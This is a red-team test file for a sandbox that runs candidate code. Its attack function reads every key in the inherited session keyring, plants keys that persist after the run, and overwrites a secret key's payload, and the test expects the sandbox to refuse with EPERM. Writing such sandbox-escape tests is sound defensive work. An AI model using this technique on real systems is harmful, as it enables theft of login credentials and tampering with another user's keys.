// ATTACK (round 17, helper-redteam17; containment: the kernel's keyrings).
// Nothing in the host candidate filter (containment.cc
// HardenCandidateProcess) refuses keyctl, add_key or request_key, and
// Landlock has no notion of keys. A candidate rank inherits the session
// keyring of whoever ran `pkforge-worker launch` (the judge's fork/exec
// keeps it; the uid drop of a root launch does not change it) and
// POSSESSES it, so the keyring's possessor permissions apply whatever the
// rank's uid: it lists the keyring and reads every key in it (a key added
// with `keyctl add user ... @s`, or by pam_keyinit/kerberos/ecryptfs/NFS
// helpers on a login), and can link new keys into it, where the caller's
// shell finds them after the evaluation. Keys added to the rank's own user
// keyring (@u of uid 65534 in a root launch, the user's in a plain one)
// outlive the evaluation on the host (user keyrings persist in the user
// namespace's register): state left behind, a channel between evaluations.
// The test runs the launch in a fresh session keyring holding a planted
// "user" key pkf-r17-secret; rank 0 lists @s, reads every key, and plants
// pkf-r17-planted in @s and pkf-r17-left-behind in @u, and rewrites the
// secret's payload (add_key of the same description updates it).
// Gated: outputs are written only if rank 0 read the planted secret or
// planted a key.
// EXPECT: WRONG_OUTPUT (keyctl/add_key/request_key refused, EPERM), no key
// read, none left behind.
#include <linux/keyctl.h>

#include "kernels/testdata/redteam/redteam.h"

static long KeyCtl(int op, unsigned long a = 0, unsigned long b = 0, unsigned long c = 0) {
  return syscall(SYS_keyctl, op, a, b, c, 0);
}

static bool Attack(pkf_context* ctx) {
  if (ctx->rank != 0) return true;
  bool read_secret = false, planted = false;
  int32_t ids[256];
  const long n = KeyCtl(KEYCTL_READ, (unsigned long)KEY_SPEC_SESSION_KEYRING,
                        (unsigned long)ids, sizeof ids);
  rt_log("uid %d: KEYCTL_READ @s: %ld%s%s", (int)getuid(), n, n < 0 ? " " : "",
         n < 0 ? strerror(errno) : "");
  for (long i = 0; n > 0 && i < n / 4 && i < 256; ++i) {
    char desc[256] = {0}, payload[256] = {0};
    KeyCtl(KEYCTL_DESCRIBE, (unsigned long)ids[i], (unsigned long)desc, sizeof desc - 1);
    const long m = KeyCtl(KEYCTL_READ, (unsigned long)ids[i], (unsigned long)payload,
                          sizeof payload - 1);
    rt_log("key %d '%s': read %ld '%s'", ids[i], desc, m, m > 0 ? payload : strerror(errno));
    if (m > 0 && strstr(payload, "redteam-keyring-secret") != NULL) read_secret = true;
  }
  const char v1[] = "planted by r17_keyring_read";
  const long k1 = syscall(SYS_add_key, "user", "pkf-r17-planted", v1, sizeof v1 - 1,
                          KEY_SPEC_SESSION_KEYRING);
  rt_log("add_key @s: %ld %s", k1, k1 < 0 ? strerror(errno) : "ok");
  const long k2 = syscall(SYS_add_key, "user", "pkf-r17-left-behind", v1, sizeof v1 - 1,
                          KEY_SPEC_USER_KEYRING);
  rt_log("add_key @u: %ld %s", k2, k2 < 0 ? strerror(errno) : "ok");
  // The same type and description as a key of the caller's: add_key UPDATES
  // that key in place when the possessor may write it (root's own key, in a
  // root launch, rewritten by uid 65534).
  const char v2[] = "forged-by-r17";
  const long k3 = syscall(SYS_add_key, "user", "pkf-r17-secret", v2, sizeof v2 - 1,
                          KEY_SPEC_SESSION_KEYRING);
  rt_log("add_key over pkf-r17-secret in @s: %ld %s", k3, k3 < 0 ? strerror(errno) : "ok");
  planted = k1 > 0 || k2 > 0 || k3 > 0;
  rt_log("read the planted secret: %s; planted a key: %s", read_secret ? "YES" : "no",
         planted ? "YES" : "no");
  return read_secret || planted;
}

RT_GATED_CANDIDATE(Attack)
